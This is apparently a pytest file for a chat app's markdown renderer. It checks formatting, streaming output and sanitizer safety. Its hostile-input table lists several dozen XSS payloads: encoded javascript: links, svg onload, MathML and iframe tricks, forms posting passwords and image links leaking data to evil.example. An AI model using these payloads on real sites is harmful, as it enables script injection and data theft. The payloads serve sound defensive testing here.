"""Markdown rendering: features, hostile input against the allow-list, and streaming."""

from __future__ import annotations

import random
import re
import time
from html.parser import HTMLParser
from typing import Any

import pytest

from webchat import render
from webchat.render import (
    ALLOWED_ATTRIBUTES,
    ALLOWED_TAGS,
    LINK_REL,
    StreamRenderer,
    pygments_css,
    render_blocks,
    render_markdown,
    render_text,
)

FORBIDDEN_TAGS = {
    "script",
    "style",
    "iframe",
    "object",
    "embed",
    "svg",
    "base",
    "meta",
    "form",
    "input",
    "img",
    "link",
    "textarea",
    "select",
    "frame",
    "frameset",
    "template",
    "maction",
    "annotation-xml",
    "semantics",
    "video",
    "audio",
    "source",
    "picture",
    "noscript",
}
FORBIDDEN_ATTRIBUTES = {"style", "id", "name", "form", "srcdoc", "src", "xlink:href", "encoding"}
SAFE_SCHEMES = {"http", "https", "mailto"}


def browser_scheme(url: str) -> str | None:
    """Return the scheme a browser would see in an (already unescaped) URL, lowercased."""
    url = re.sub(r"[\t\n\r]", "", url).strip("".join(chr(c) for c in range(0x21)))
    match = re.match(r"([A-Za-z][A-Za-z0-9+.-]*):", url)
    return match.group(1).lower() if match else None


class AllowListChecker(HTMLParser):
    """Collect every way an HTML fragment breaks the allow-list."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.tags: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        if tag not in ALLOWED_TAGS or tag in FORBIDDEN_TAGS:
            self.problems.append(f"tag <{tag}>")
            return
        allowed = set(ALLOWED_ATTRIBUTES[tag]) | ({"rel", "target"} if tag == "a" else set())
        names = [name for name, _ in attrs]
        for name, value in attrs:
            if name not in allowed or name in FORBIDDEN_ATTRIBUTES:
                self.problems.append(f"attribute {name!r} on <{tag}>")
            if name.startswith(("on", "hx-", "data-", "xlink", "xmlns")):
                self.problems.append(f"attribute {name!r} on <{tag}>")
            if name == "href":
                scheme = browser_scheme(value or "")
                if scheme not in SAFE_SCHEMES:
                    self.problems.append(f"href {value!r}")
            if name == "class" and value and "javascript" in value.lower():
                self.problems.append(f"class {value!r}")
        if len(names) != len(set(names)):
            self.problems.append(f"duplicate attributes on <{tag}>")
        if tag == "a":
            attributes = dict(attrs)
            if attributes.get("rel") != LINK_REL or attributes.get("target") != "_blank":
                self.problems.append(f"link without rel/target: {attrs}")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_comment(self, data: str) -> None:
        self.problems.append(f"comment {data!r}")

    def handle_decl(self, decl: str) -> None:
        self.problems.append(f"declaration {decl!r}")

    def handle_pi(self, data: str) -> None:
        self.problems.append(f"processing instruction {data!r}")

    def unknown_decl(self, data: str) -> None:
        self.problems.append(f"declaration {data!r}")


def assert_safe(html: str) -> list[str]:
    """Assert the fragment keeps to the allow-list; return the tags it uses."""
    checker = AllowListChecker()
    checker.feed(html)
    checker.close()
    assert not checker.problems, (checker.problems, html)
    # Belt and braces: no tag may mention a dangerous scheme or an event handler at all,
    # whatever the parser above made of it (plain text may, it is inert).
    for tag in re.findall(r"<[^>]*>", html):
        lowered = tag.lower()
        assert not re.search(r"(javascript|vbscript|data)\s*:", lowered), (tag, html)
        assert not re.search(r"\son[a-z]+\s*=", lowered), (tag, html)
    return checker.tags


# -- features ---------------------------------------------------------------------------

FEATURES: list[tuple[str, list[str], list[str]]] = [
    ("# Title\n\n## Sub", ["<h1>Title</h1>", "<h2>Sub</h2>"], []),
    ("*em* **strong** ~~gone~~", ["<em>em</em>", "<strong>strong</strong>", "<s>gone</s>"], []),
    ("- a\n- b", ["<ul>\n<li>a</li>\n<li>b</li>\n</ul>"], []),
    ("3. c\n4. d", ['<ol start="3">', "<li>c</li>"], []),
    ("> quoted", ["<blockquote>\n<p>quoted</p>\n</blockquote>"], []),
    ("`x < y`", ["<code>x &lt; y</code>"], []),
    (
        "[site](https://example.com/a?b=1&c=2)",
        [
            '<a href="https://example.com/a?b=1&amp;c=2" target="_blank" '
            'rel="noopener noreferrer nofollow">site</a>'
        ],
        [],
    ),
    ("<https://example.com>", ['href="https://example.com"', ">https://example.com</a>"], []),
    ("<me@example.com>", ['href="mailto:me@example.com"'], []),
    ("[mail](MAILTO:me@example.com)", ['href="MAILTO:me@example.com"'], []),
    (
        "| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |",
        [
            '<div class="table-wrap"><table>',
            '<th class="align-left">a</th>',
            '<td class="align-center">2</td>',
            '<td class="align-right">3</td>',
            "</table></div>",
        ],
        ["style="],
    ),
    (
        "```python\nprint('hi')\n```",
        [
            '<div class="code"><div class="code-head"><span class="code-lang">python</span>'
            '<button type="button" class="copy" aria-label="Copy code">Copy</button></div>'
            '<pre><code class="language-python"><span class="nb">print</span>',
            "<span class=\"s1\">'hi'</span>",
            "</code></pre></div>",
        ],
        ["style="],
    ),
    (
        "```\n<b>plain</b>\n```",
        ['<span class="code-lang">text</span>', '<code class="language-text">&lt;b&gt;plain'],
        ["<b>"],
    ),
    (
        "```nosuchlang\na <b>\n```",
        ['<span class="code-lang">nosuchlang</span>', "a &lt;b&gt;\n</code>"],
        ['<span class="n"'],
    ),
    ("    indented()\n", ['<code class="language-text">indented()'], []),
    (
        "Euler: $e^{i\\pi}+1=0$.",
        ['<math display="inline">', "<msup><mi>e</mi>", "<mi>π</mi>"],
        ["xmlns"],
    ),
    ("$$\n\\frac{a}{b}\n$$", ['<div class="math"><math display="block">', "<mfrac>"], []),
    ("$$x^2$$", ['<math display="block">', "<msup>"], []),
    ("bad $\\frac{1}{$ math", ["<code>$\\frac{1}{$</code>"], ["<math"]),
    ("It costs $5 and $10.", ["It costs $5 and $10."], ["<math"]),
    (
        "![a cat](https://example.com/cat.png)",
        ['href="https://example.com/cat.png"', "🖼 a cat</a>"],
        ["<img"],
    ),
    ("line one\nline two", ["<p>line one\nline two</p>"], ["<br"]),
    ("a  \nb", ["a<br>\nb"], []),
    ("---", ["<hr>"], []),
]


@pytest.mark.parametrize(("source", "present", "absent"), FEATURES)
def test_markdown_features_render_as_expected(
    source: str, present: list[str], absent: list[str]
) -> None:
    html = render_markdown(source)
    assert_safe(html)
    for fragment in present:
        assert fragment in html, (fragment, html)
    for fragment in absent:
        assert fragment not in html, (fragment, html)


# -- hostile input ----------------------------------------------------------------------

SVG_B64 = "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"
HOSTILE: list[tuple[str, list[str]]] = [
    ("<script>alert(1)</script>", ["&lt;script&gt;"]),
    ("<SCRIPT SRC=https://evil.example/x.js></SCRIPT>", []),
    ("<img src=x onerror=alert(1)>", ["&lt;img"]),
    ('<a href="javascript:alert(1)">x</a>', []),
    ('<a href="https://ok.example" onclick="alert(1)">x</a>', []),
    ("[x](javascript:alert(1))", []),
    ("[x](JaVaScRiPt:alert(1))", []),
    ("[x](&#106;avascript:alert(1))", []),
    ("[x](&#x6A;&#x61;vascript:alert(1))", []),
    ("[x](javascript&#58;alert(1))", []),
    ("[x](javascript&colon;alert(1))", []),
    ("[x](<java\tscript:alert(1)>)", []),
    ("[x](java&#x09;script:alert(1))", []),
    ("[x](java&#10;script:alert(1))", []),
    ("[x](<java\nscript:alert(1)>)", []),
    ("[x](\x00javascript:alert(1))", []),
    ("[x](\x01javascript:alert(1))", []),
    ("[x](&#0;javascript:alert(1))", []),
    ("[x](<\x0bjavascript:alert(1)>)", []),
    ("[x](< javascript:alert(1)>)", []),
    ("[x](javascript://%0aalert(1))", []),
    ("[x](vbscript:msgbox(1))", []),
    ("[x](VBScript:msgbox(1))", []),
    ("[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", []),
    ("[x](DaTa:text/html,<script>alert(1)</script>)", []),
    ("<javascript:alert(1)>", ["&lt;javascript:alert(1)&gt;"]),
    ("<JAVASCRIPT:alert(1)>", []),
    ("<data:text/html,alert(1)>", []),
    ("<vbscript:msgbox(1)>", []),
    ("[x][evil]\n\n[evil]: javascript:alert(1)", []),
    ("[evil]\n\n[evil]: <javascript:alert(1)>", []),
    ("![x][pic]\n\n[pic]: https://evil.example/leak?q=secret", ["🖼 x"]),
    ("![x](https://evil.example/leak?q=secret)", ['href="https://evil.example/leak?q=secret"']),
    ("![x](javascript:alert(1))", []),
    (f"![x](data:image/svg+xml;base64,{SVG_B64})", []),
    ("![x](mailto:a@b.example)", []),
    ("[![x](https://evil.example/a.png)](https://ok.example)", []),
    ("[x](//evil.example/path)", []),
    ("[x](/logout)", []),
    ('[x](https://ok.example/"onmouseover="alert(1))', ["%22onmouseover=%22"]),
    ('[x](https://ok.example "t\\" onmouseover=\\"alert(1)")', []),
    ("<svg onload=alert(1)>", ["&lt;svg"]),
    ("<svg><script>alert(1)</script></svg>", []),
    ("$\\href{javascript:alert(1)}{x}$", ["<math"]),
    ("$<mtext><script>alert(1)</script></mtext>$", []),
    ("$\\text{<img src=x onerror=alert(1)>}$", ["&lt;img&nbsp;src=x"]),
    ("$$\n\\text{</math><script>alert(1)</script>}\n$$", ["&lt;/math&gt;"]),
    ("$\\style{background:url(https://evil.example/x)}{x}$", ["<math"]),
    ("$\\class{copy}{x}$", ["<math"]),
    ("$\\color{red;background:url(x)}{y}$", []),
    ("$\\hspace{99999em}x$", []),
    ("$\\text{&#x3C;script&#x3E;}$", []),
    (
        '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction>'
        "</math>",
        [],
    ),
    (
        '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml>'
        "</math>",
        [],
    ),
    ('<base href="https://evil.example/">', ["&lt;base"]),
    ('<meta http-equiv="refresh" content="0;url=https://evil.example">', []),
    ('<form action="https://evil.example"><input name="password"></form>', []),
    ('<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe>', []),
    ('<object data="https://evil.example/x.swf"></object><embed src="x">', []),
    ("<style>body{display:none}</style>", []),
    ('<link rel="stylesheet" href="https://evil.example/x.css">', []),
    ('<div hx-get="/delete" hx-trigger="load">x</div>', ["hx-get"]),
    ('<a hx-on:click="alert(1)">x</a> hx-on::before-request="x"', []),
    ('<p id="__proto__" name="body">clobber</p> <form id="csrf">', []),
    ('<img name="getElementById"> <a id="location" href="https://evil.example">', []),
    ('<div data-hx-post="/x" data-foo="1">x</div>', []),
    ("<!-- comment --><!DOCTYPE html><?xml version='1.0'?><![CDATA[x]]>", []),
    ('<noscript><p title="</noscript><img src=x onerror=alert(1)>">', []),
    ("<textarea><script>alert(1)</script></textarea>", []),
    ('```python" onmouseover="alert(1)\nx\n```', ['class="language-text"']),
    ("```<script>alert(1)</script>\nx\n```", ['class="language-text"']),
    ("```javascript:alert(1)\nx\n```", []),
    ("\u202eevil\u202c [x](https://ok.example/\u202e) `\u202e` \u2066x\u2069", ["\u202eevil"]),
    ("[x\u202e](https://ok.example) <b\u202e>", []),
    ("&lt;script&gt;alert(1)&lt;/script&gt;", ["&lt;script&gt;"]),
    ("\x00<script>alert(1)</script>", []),
    ("[<b>x</b>](https://ok.example)", ["&lt;b&gt;x&lt;/b&gt;"]),
    ("[x](mailto:a@b.example?body=%3Cscript%3E)", ['href="mailto:a@b.example?body=%3Cscript%3E"']),
]


@pytest.mark.parametrize(("source", "present"), HOSTILE)
def test_hostile_markdown_keeps_to_the_allow_list(source: str, present: list[str]) -> None:
    html = render_markdown(source)
    assert_safe(html)
    for fragment in present:
        assert fragment in html, (fragment, html)


def test_hostile_table_has_at_least_forty_cases() -> None:
    assert len(HOSTILE) >= 40


def test_bad_links_stay_visible_as_text() -> None:
    html = render_markdown("[x](javascript:alert(1)) <vbscript:x>")
    assert "<a" not in html
    assert "[x](javascript:alert(1)) &lt;vbscript:x&gt;" in html


def test_image_inside_a_link_does_not_nest_links() -> None:
    html = render_markdown("[![logo](https://evil.example/a.png)](https://ok.example)")
    assert html.count("<a ") == 1
    assert 'href="https://ok.example"' in html and "logo</a>" in html


def test_remote_image_becomes_a_link_never_an_img() -> None:
    html = render_markdown("![secret](https://evil.example/leak?q=secret)")
    assert "<img" not in html
    assert (
        '<a href="https://evil.example/leak?q=secret" target="_blank" '
        'rel="noopener noreferrer nofollow">🖼 secret</a>'
    ) in html


def test_non_http_image_shows_only_its_alt_text() -> None:
    html = render_markdown("![just alt](mailto:a@b.example)")
    assert "<a" not in html
    assert "just alt" in html


LATEX_SAMPLES = [
    r"\left( \frac{a}{b} \right) \sqrt[3]{x} \overline{x} \hat{y} \vec{v}",
    r"\begin{pmatrix} a & b \\ c & d \end{pmatrix} \begin{array}{|c|l|} 1 & 2 \end{array}",
    r"\sum_{i=0}^{n} \int_a^b \lim_{x \to 0} \operatorname{argmax} \mathbb{R} \mathcal{F}",
    r"\boxed{x} \cancel{y} \colorbox{yellow}{z} \fcolorbox{red}{blue}{w} \color{#0a0}{v}",
    r"\displaystyle \binom{n}{k} \tfrac{1}{2} \underbrace{a+b}_{c} \overset{!}{=} \not\in",
    r"\Huge x \tiny y \quad \qquad \, \; \! \hspace{2em} \mathrm{d}x \text{ if } x > 0",
    r"\rlap{x} \phantom{y} \smash{z} \substack{a \\ b} \left\langle x \middle| y \right\rangle",
]


@pytest.mark.parametrize("latex", LATEX_SAMPLES)
def test_mathml_from_latex_keeps_to_the_allow_list(latex: str) -> None:
    for source in (f"${latex}$", f"$$\n{latex}\n$$"):
        html = render_markdown(source)
        assert "<math" in html, html
        assert_safe(html)


def test_latex_markup_in_text_is_escaped_not_parsed() -> None:
    html = render_markdown("$\\text{<b>bold</b>}$")
    assert "<mtext>&lt;b&gt;bold&lt;/b&gt;</mtext>" in html


def test_mathml_drops_href_style_and_class_from_latex() -> None:
    html = render_markdown("$\\href{https://ok.example}{a} \\style{color:red}{b} \\class{x}{c}$")
    assert_safe(html)
    assert "href" not in html and "style" not in html and 'class="x"' not in html


def test_mathml_keeps_colours_but_not_huge_lengths() -> None:
    html = render_markdown("$\\color{#f00}{x} \\hspace{99999em} \\hspace{1em}$")
    assert 'mathcolor="#f00"' in html
    assert "99999" not in html
    assert '<mspace width="1em">' in html


DEEP_INPUTS = {
    "500 nested list markers": "- " * 500 + "x",
    "500 nested quote markers": "> " * 500 + "x",
    "500 indented list levels": "\n".join("  " * i + "- item" for i in range(500)),
    "500 quote levels over lines": "\n".join(">" * i + " q" for i in range(1, 500)),
    "250 quote-list pairs": "> - " * 250 + "x",
    "500 emphasis markers": "*" * 500 + "x" + "*" * 500,
    "5000 brackets": "[" * 5000 + "x" + "]" * 5000,
    "2000 unclosed links": "[x](" * 2000,
    "2000 latex braces": "$" + "{" * 2000 + "x" + "}" * 2000 + "$",
    "800 unclosed fracs": "$$\n" + "\\frac{" * 800 + "$$",
    "3000 backticks": "`" * 3000,
    "3000 pipes": "|" * 3000 + "\n" + "|-" * 1500,
}


@pytest.mark.parametrize("source", DEEP_INPUTS.values(), ids=DEEP_INPUTS.keys())
def test_deep_nesting_neither_crashes_nor_escapes(source: str) -> None:
    html = render_markdown(source)
    tags = assert_safe(html)
    assert tags.count("blockquote") <= 25 and tags.count("ul") <= 25
    blocks, tail = render_blocks(source)
    assert_safe("".join(blocks) + tail)


def test_ten_thousand_line_code_block_renders_in_reasonable_time() -> None:
    code = "\n".join(f"def f{i}(x):  # <{i}>\n    return x * {i}" for i in range(5000))
    started = time.monotonic()
    html = render_markdown(f"```python\n{code}\n```")
    assert time.monotonic() - started < 20
    assert html.count("\n") >= 10_000
    assert "# &lt;4999&gt;" in html
    assert_safe(html)


def test_allow_list_names_no_dangerous_tag_or_attribute() -> None:
    assert not ALLOWED_TAGS & FORBIDDEN_TAGS
    for tag, attributes in ALLOWED_ATTRIBUTES.items():
        assert not attributes & FORBIDDEN_ATTRIBUTES, tag
        assert not any(name.startswith(("on", "hx-", "data-")) for name in attributes), tag


def test_lone_surrogates_become_replacement_characters() -> None:
    assert render_markdown("a \ud800 b") == "<p>a \ufffd b</p>\n"
    assert render_blocks("x\n\n\udfff\n") == (["<p>x</p>\n"], "<p>\ufffd</p>\n")
    assert render_text("\udc80<") == "\ufffd&lt;"


def test_render_text_escapes_everything() -> None:
    assert render_text("<b>hi</b> & \"x\" 'y'\n  z") == (
        "&lt;b&gt;hi&lt;/b&gt; &amp; &quot;x&quot; &#x27;y&#x27;\n  z"
    )


def test_pygments_css_is_scoped_and_has_a_dark_theme() -> None:
    css = pygments_css()
    rules = [line for line in css.splitlines() if "{" in line and not line.startswith("@media")]
    assert rules
    scopes = (".code", "[data-theme=dark] .code", ":root:not([data-theme=light]) .code")
    assert all(line.startswith(scopes) for line in rules)
    assert ".code .k {" in css
    assert "[data-theme=dark] .code .k {" in css
    assert "@media (prefers-color-scheme: dark)" in css


# -- streaming --------------------------------------------------------------------------

DOCUMENTS = [
    "Hello **world**, this is a reply.\n\nA second paragraph with `code` and a [link](https://ok.example).",
    "# Title\n\nIntro text\nwith two lines.\n\n- one\n- two\n  continued\n- three\n\n1. a\n2. b\n\n"
    "> quote\n> more\n\nend",
    "Code:\n\n```python\ndef f(x):\n    return x + 1\n```\n\nAfter the code.\n\n```\nplain\n```\n",
    "| a | b |\n|---|--:|\n| 1 | 2 |\n| 3 | 4 |\n\nText after the table.\n\n| x |\n|---|\n| y |",
    "Math $a^2+b^2=c^2$ inline.\n\n$$\n\\sum_{i=0}^n i\n$$\n\nand $$x$$ done.\n",
    "Setext heading\n===\n\nAnother\n---\n\npara\n***\n\n***bold italic*** text",
    "para\n#hashtag and more\n\npara\n# real heading\n\ntext\n***\nafter rule",
    "- item\n\n  indented paragraph in item\n\n- next item\n\nnot in list\n\n    indented code\n",
    "[ref]: https://ok.example\n\n[ref] used after its definition\n\nand [ref] again.",
    "```js\nunclosed fence\nconsole.log(1)\n",
    "Windows\r\nline endings\r\n\r\n- a\r\n- b\r\n\r\ndone\rmac",
    "para\n| a | b |\n|---|---|\n| 1 | 2 |\n\n~~~\ntilde fence\n~~~\ntext",
    "> quote\nlazy continuation\n\n>  - list in quote\n> - more\n\n- [x](https://a.example)\n",
]


def feed_in_pieces(text: str, rng: random.Random) -> tuple[StreamRenderer, list[str], str]:
    renderer = StreamRenderer()
    blocks: list[str] = []
    end, tail = 0, ""
    while end < len(text):
        end = min(len(text), end + rng.randint(1, 12))
        new, tail = renderer.feed(text[:end])
        blocks.extend(new)
    return renderer, blocks, tail


@pytest.mark.parametrize("doc", DOCUMENTS)
@pytest.mark.parametrize("seed", range(12))
def test_streamed_blocks_equal_the_whole_render(doc: str, seed: int) -> None:
    renderer, blocks, tail = feed_in_pieces(doc, random.Random(seed))
    assert "".join(blocks) + tail == render_markdown(doc)
    assert renderer.snapshot() == render_markdown(doc)
    assert renderer.blocks_count == len(blocks)


def test_streaming_every_single_character_matches_the_whole_render() -> None:
    doc = "\n\n".join(DOCUMENTS[:8])
    renderer = StreamRenderer()
    blocks: list[str] = []
    tail = ""
    for end in range(1, len(doc) + 1):
        new, tail = renderer.feed(doc[:end])
        blocks.extend(new)
        assert renderer.snapshot() == "".join(blocks) + tail
    assert "".join(blocks) + tail == render_markdown(doc)


def test_link_definitions_before_use_carry_over_finished_blocks() -> None:
    doc = "[ref]: https://ok.example\n\nfirst\n\nsecond [ref]\n\nthird"
    _, blocks, tail = feed_in_pieces(doc, random.Random(1))
    assert 'href="https://ok.example"' in "".join(blocks) + tail
    assert "".join(blocks) + tail == render_markdown(doc)


def test_link_definition_after_a_finished_block_is_the_known_divergence() -> None:
    doc = "see [ref]\n\nmore text\n\n[ref]: https://ok.example\n\nend"
    _, blocks, tail = feed_in_pieces(doc, random.Random(3))
    assert "<a" in render_markdown(doc)
    assert "[ref]" in blocks[0]


def test_finished_blocks_never_change_as_text_grows() -> None:
    doc = "\n\n".join(DOCUMENTS[:8])
    final_blocks, _ = render_blocks(doc)
    renderer = StreamRenderer()
    returned: list[str] = []
    rng = random.Random(7)
    end = 0
    while end < len(doc):
        end = min(len(doc), end + rng.randint(1, 30))
        new, _ = renderer.feed(doc[:end])
        returned.extend(new)
        assert returned == final_blocks[: len(returned)]
    assert len(returned) >= len(final_blocks) - 1


def test_each_finished_block_is_rendered_once(monkeypatch: pytest.MonkeyPatch) -> None:
    calls: list[int] = []
    real = render._render_tokens

    def counting(tokens: Any, env: Any) -> str:
        calls.append(len(tokens))
        return real(tokens, env)

    monkeypatch.setattr(render, "_render_tokens", counting)
    doc = "\n\n".join(DOCUMENTS[:8])
    renderer = StreamRenderer()
    feeds = 0
    for end in range(5, len(doc) + 5, 5):
        renderer.feed(doc[:end])
        feeds += 1
    # One render for the open block per call, plus one per finished block, ever.
    assert len(calls) == feeds + renderer.blocks_count


def test_feeding_the_same_text_again_returns_no_new_blocks() -> None:
    renderer = StreamRenderer()
    first, tail = renderer.feed("one\n\ntwo\n\nthr")
    assert first and tail
    again, same_tail = renderer.feed("one\n\ntwo\n\nthr")
    assert again == [] and same_tail == tail


def test_partial_line_does_not_finish_the_block_above() -> None:
    renderer = StreamRenderer()
    new, tail = renderer.feed("1. a\n\n2")
    assert new == [] and "<p>2</p>" in tail
    new, tail = renderer.feed("1. a\n\n2. b\n")
    assert new == [] and tail.count("<ol>") == 1 and "<li>\n<p>b</p>\n</li>" in tail


def test_block_without_a_blank_line_above_does_not_finish_it() -> None:
    renderer = StreamRenderer()
    new, tail = renderer.feed("para\n| a |\n|---|\n")
    assert new == [] and "<p>para</p>" in tail and "<table>" in tail
    new, tail = renderer.feed("para\n| a |\n|---|x\n\nnext\n")
    assert new == ["<p>para\n| a |\n|---|x</p>\n"] and tail == "<p>next</p>\n"
    assert renderer.snapshot() == render_markdown("para\n| a |\n|---|x\n\nnext\n")


def test_closing_dollars_can_claim_lines_until_a_blank_line() -> None:
    renderer = StreamRenderer()
    new, _ = renderer.feed("$$\nx\n- a\n")
    assert new == []
    new, tail = renderer.feed("$$\nx\n- a\n$$\n")
    assert new == [] and tail.startswith('<div class="math"><math display="block">')
    assert "<ul>" not in tail


def test_unclosed_fence_streams_as_an_open_code_block() -> None:
    blocks, tail = render_blocks("intro\n\n```python\nx = 1\n")
    assert blocks == ["<p>intro</p>\n"]
    assert tail.startswith('<div class="code">') and '<span class="n">x</span>' in tail
    assert tail.endswith("</code></pre></div>\n")


def test_render_blocks_splits_finished_blocks_from_the_open_one() -> None:
    blocks, tail = render_blocks("# A\n\npara\n\n- open list\n")
    assert blocks == ["<h1>A</h1>\n", "<p>para</p>\n"]
    assert tail == "<ul>\n<li>open list</li>\n</ul>\n"


def test_block_above_a_partial_first_line_stays_open() -> None:
    blocks, tail = render_blocks("# A\n\npara\n\n- open li")
    assert blocks == ["<h1>A</h1>\n"]
    assert tail == "<p>para</p>\n<ul>\n<li>open li</li>\n</ul>\n"


def test_empty_reply_renders_nothing() -> None:
    assert render_blocks("") == ([], "")
    assert render_markdown("") == ""
    assert StreamRenderer().snapshot() == ""


STREAM_PIECES = [
    "\n",
    "\n\n",
    " ",
    "    ",
    "- ",
    "* ",
    "1. ",
    "2",
    ". ",
    "> ",
    "# ",
    "```",
    "```py\n",
    "~~~",
    "---",
    "***",
    "===",
    "| a | b |\n",
    "|---|---|\n",
    "|",
    ":-:",
    "$",
    "$$",
    "$$\n",
    "x^2",
    "\\frac{a}{b}",
    "`",
    "*",
    "_",
    "~~",
    "[",
    "](https://a.example)",
    "![",
    "<",
    "&amp;",
    "word",
    "\t",
    "\r\n",
    "<b>",
]


def test_streaming_random_markdown_matches_the_whole_render() -> None:
    rng = random.Random(2024)
    for _ in range(300):
        doc = "".join(rng.choice(STREAM_PIECES) for _ in range(rng.randint(1, 60)))
        _, blocks, tail = feed_in_pieces(doc, rng)
        assert "".join(blocks) + tail == render_markdown(doc), doc


def test_hostile_input_streamed_stays_safe() -> None:
    doc = "\n\n".join(source for source, _ in HOSTILE)
    _, blocks, tail = feed_in_pieces(doc, random.Random(11))
    assert_safe("".join(blocks) + tail)
